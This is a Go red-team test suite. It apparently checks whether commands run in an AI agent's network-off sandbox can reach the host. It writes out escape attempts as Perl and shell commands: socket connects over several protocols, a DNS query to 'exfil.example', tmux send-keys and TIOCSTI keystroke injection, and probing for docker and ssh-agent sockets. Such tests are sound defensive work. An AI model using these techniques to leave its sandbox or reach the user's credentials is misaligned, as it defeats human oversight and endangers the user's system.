package redteam

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// received listens on network/address (the test's side, outside the
// sandbox) and returns the address and a function that reports what
// arrived within a short wait after the command ended.
func received(t *testing.T, network, address string) (string, func() string) {
	t.Helper()
	got := make(chan string, 16)
	switch network {
	case "udp":
		pc, err := net.ListenPacket("udp", address)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { pc.Close() })
		go func() {
			buf := make([]byte, 512)
			for {
				n, from, err := pc.ReadFrom(buf)
				if err != nil {
					return
				}
				got <- string(buf[:n])
				pc.WriteTo([]byte("pong"), from)
			}
		}()
		return pc.LocalAddr().String(), collect(got)
	default:
		ln, err := net.Listen(network, address)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				go func() {
					defer c.Close()
					c.SetDeadline(time.Now().Add(5 * time.Second))
					buf := make([]byte, 512)
					n, _ := c.Read(buf)
					got <- "connected:" + string(buf[:n])
					c.Write([]byte("pong"))
				}()
			}
		}()
		return ln.Addr().String(), collect(got)
	}
}

// collect drains got: what arrived by now (the command has ended, and a
// connection it made was accepted before it ended), after a short grace.
func collect(got chan string) func() string {
	return func() string {
		var all []string
		deadline := time.After(300 * time.Millisecond)
		for {
			select {
			case s := <-got:
				all = append(all, s)
			case <-deadline:
				return strings.Join(all, "; ")
			}
		}
	}
}

// perl runs a perl program in the sandbox: perl is in every base system,
// and its Socket module reaches every family and protocol.
func perl(prog string) string {
	return "perl -MSocket -e '" + strings.ReplaceAll(prog, "'", `'\''`) + "' 2>&1; echo ended"
}

func reached(what, got string) outcome {
	if got != "" {
		return escaped("%s reached the listener outside the sandbox: %q", what, got)
	}
	return held("nothing reached the listener")
}

// TestNetworkAndSockets: with the network off, a command reaches a
// listener on the host (loopback only) by any family, protocol or socket
// kind, or a socket of the user's session.
func TestNetworkAndSockets(t *testing.T) {
	attempt(t, famNet, "TCP to a host loopback listener", func(t *testing.T) outcome {
		addr, got := received(t, "tcp", "127.0.0.1:0")
		host, port, _ := net.SplitHostPort(addr)
		sandboxed(t, t.TempDir(), perl(fmt.Sprintf(`socket(S, PF_INET, SOCK_STREAM, 6) or die "socket: $!"; connect(S, pack_sockaddr_in(%s, inet_aton("%s"))) or die "connect: $!"; syswrite(S, "tcp");`, port, host)))
		return reached("TCP", got())
	})

	attempt(t, famNet, "UDP datagram to a host loopback listener", func(t *testing.T) outcome {
		addr, got := received(t, "udp", "127.0.0.1:0")
		host, port, _ := net.SplitHostPort(addr)
		sandboxed(t, t.TempDir(), perl(fmt.Sprintf(`socket(S, PF_INET, SOCK_DGRAM, 17) or die "socket: $!"; send(S, "udp", 0, pack_sockaddr_in(%s, inet_aton("%s"))) or die "send: $!";`, port, host)))
		return reached("UDP", got())
	})

	attempt(t, famNet, "MPTCP stream to a host loopback listener", func(t *testing.T) outcome {
		addr, got := received(t, "tcp", "127.0.0.1:0")
		host, port, _ := net.SplitHostPort(addr)
		s := endToEnd(t, nil, nil, perl(fmt.Sprintf(`socket(S, PF_INET, SOCK_STREAM, 262) or die "socket: $!"; connect(S, pack_sockaddr_in(%s, inet_aton("%s"))) or die "connect: $!"; syswrite(S, "mptcp");`, port, host)))
		t.Logf("command result:\n%s", lastToolResult(s))
		return reached("MPTCP", got())
	})

	attempt(t, famNet, "TCP fast open with sendto", func(t *testing.T) outcome {
		addr, got := received(t, "tcp", "127.0.0.1:0")
		host, port, _ := net.SplitHostPort(addr)
		sandboxed(t, t.TempDir(), perl(fmt.Sprintf(`socket(S, PF_INET, SOCK_STREAM, 6) or die "socket: $!"; send(S, "tfo", 0x20000000, pack_sockaddr_in(%s, inet_aton("%s"))) or die "sendto: $!"; sleep 1;`, port, host)))
		return reached("TCP fast open", got())
	})

	attempt(t, famNet, "abstract unix socket the test listens on", func(t *testing.T) outcome {
		name := randName("agentls-redteam-")
		_, got := received(t, "unix", "@"+name)
		s := endToEnd(t, nil, nil, perl(fmt.Sprintf(`socket(S, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!"; connect(S, pack_sockaddr_un("\0%s")) or die "connect: $!"; syswrite(S, "abstract");`, name)))
		t.Logf("command result:\n%s", lastToolResult(s))
		return reached("an abstract unix socket", got())
	})

	attempt(t, famNet, "unix socket by path in the host's /tmp", func(t *testing.T) outcome {
		dir, err := os.MkdirTemp("/tmp", "agentls-redteam-sock-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		p := filepath.Join(dir, "agent.sock")
		_, got := received(t, "unix", p)
		sandboxed(t, t.TempDir(), perl(fmt.Sprintf(`socket(S, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!"; connect(S, pack_sockaddr_un("%s")) or die "connect: $!"; syswrite(S, "path");`, p)))
		return reached("a unix socket in /tmp", got())
	})

	attempt(t, famNet, "unix socket by path in /run/user", func(t *testing.T) outcome {
		dir := filepath.Join("/run/user", fmt.Sprint(os.Getuid()))
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(dir, randName("bus-"))
		t.Cleanup(func() { os.Remove(p) })
		_, got := received(t, "unix", p)
		sandboxed(t, t.TempDir(), perl(fmt.Sprintf(`socket(S, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!"; connect(S, pack_sockaddr_un("%s")) or die "connect: $!"; syswrite(S, "run-user");`, p)))
		return reached("a unix socket in /run/user", got())
	})

	attempt(t, famNet, "DNS query to a resolver on the host's loopback", func(t *testing.T) outcome {
		addr, got := received(t, "udp", "127.0.0.1:0")
		host, port, _ := net.SplitHostPort(addr)
		// A query for exfil.example (A), as a resolver library sends it.
		q := `"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x07example\x00\x00\x01\x00\x01"`
		sandboxed(t, t.TempDir(), perl(fmt.Sprintf(`socket(S, PF_INET, SOCK_DGRAM, 17) or die "socket: $!"; send(S, %s, 0, pack_sockaddr_in(%s, inet_aton("%s"))) or die "send: $!";`, q, port, host)))
		return reached("a DNS query", got())
	})

	attempt(t, famNet, "tmux send-keys into the user's pane (TMUX in the environment)", func(t *testing.T) outcome {
		if _, err := exec.LookPath("tmux"); err != nil {
			t.Skip("no tmux")
		}
		dir, err := os.MkdirTemp("/tmp", "tmux-redteam-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		sock := filepath.Join(dir, "default")
		start := exec.Command("tmux", "-S", sock, "new-session", "-d", "-s", "user", "sh")
		start.Env = append(os.Environ(), "TMUX=")
		if out, err := start.CombinedOutput(); err != nil {
			t.Fatalf("tmux: %v %s", err, out)
		}
		t.Cleanup(func() { exec.Command("tmux", "-S", sock, "kill-server").Run() })
		pid, _ := exec.Command("tmux", "-S", sock, "display-message", "-p", "#{pid}").Output()
		t.Setenv("TMUX", fmt.Sprintf("%s,%s,0", sock, strings.TrimSpace(string(pid))))
		m := marker(t)
		s := endToEnd(t, nil, nil, fmt.Sprintf(`echo "TMUX=$TMUX"; tmux send-keys -t user 'env > %s' Enter; echo sent`, m))
		t.Logf("command result:\n%s", lastToolResult(s))
		deadline := time.Now().Add(2 * time.Second)
		for time.Now().Before(deadline) && ranPayload(m) == "" {
			time.Sleep(50 * time.Millisecond)
		}
		if got := ranPayload(m); got != "" {
			return escaped("the user's tmux pane ran the command's keys outside the sandbox")
		}
		if strings.Contains(lastToolResult(s), "TMUX=/") {
			return escaped("TMUX reached the command's environment")
		}
		return held("no TMUX in the command's environment and no keys reached the pane")
	})

	attempt(t, famNet, "push input into the server's terminal with TIOCSTI", func(t *testing.T) outcome {
		if _, err := exec.LookPath("script"); err != nil {
			t.Skip("no script(1) to give the server a terminal")
		}
		self, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		root := t.TempDir()
		// What the user's shell would run once the server exits.
		line := perl(`open(T, "+<", "/dev/tty") or die "tty: $!"; for my $c (split //, "touch /tmp/pwned\n") { ioctl(T, 0x5412, $c) or die "TIOCSTI: $!" } print "IN", "JECTED\n";`)
		srv := exec.Command("script", "-qec", self+" -test.run=^$", "/dev/null")
		srv.Env = append(os.Environ(), "OPENAI_API_KEY="+apiKey, standInRoot+"="+root, standInCommands+"="+line)
		out, err := srv.CombinedOutput()
		t.Logf("stand-in server in a terminal: %v\n%s", err, out)
		if !strings.Contains(string(out), "ended") {
			t.Fatalf("the command did not run: nothing was attacked")
		}
		if strings.Contains(string(out), "INJECTED") {
			return escaped("the command pushed input into the terminal the server runs in")
		}
		return held("the command has no controlling terminal")
	})

	attempt(t, famNet, "docker socket under the home folder named by DOCKER_HOST", func(t *testing.T) outcome {
		home, _ := os.UserHomeDir()
		dir, err := os.MkdirTemp(home, ".redteam-docker-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		p := filepath.Join(dir, "docker.sock")
		_, got := received(t, "unix", p)
		t.Setenv("DOCKER_HOST", "unix://"+p)
		// The command finds it by looking, with or without the variable.
		s := endToEnd(t, nil, nil, `for s in ${DOCKER_HOST#unix://} $HOME/.redteam-docker-*/docker.sock; do perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!"; connect(S, pack_sockaddr_un($ARGV[0])) or die "connect $ARGV[0]: $!"; syswrite(S, "docker");' "$s" 2>&1; done; echo ended`)
		t.Logf("command result:\n%s", lastToolResult(s))
		return reached("the docker socket", got())
	})

	attempt(t, famNet, "ssh-agent socket named by SSH_AUTH_SOCK", func(t *testing.T) outcome {
		dir, err := os.MkdirTemp("/tmp", "ssh-redteam-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		p := filepath.Join(dir, "agent.1")
		_, got := received(t, "unix", p)
		t.Setenv("SSH_AUTH_SOCK", p)
		// The command knows where agents live even without the variable.
		s := endToEnd(t, nil, nil, `for s in ${SSH_AUTH_SOCK:-} /tmp/ssh-*/agent.*; do perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!"; connect(S, pack_sockaddr_un($ARGV[0])) or die "connect $ARGV[0]: $!"; syswrite(S, "ssh-agent");' "$s" 2>&1; done; echo ended`)
		t.Logf("command result:\n%s", lastToolResult(s))
		return reached("the ssh-agent socket", got())
	})
}
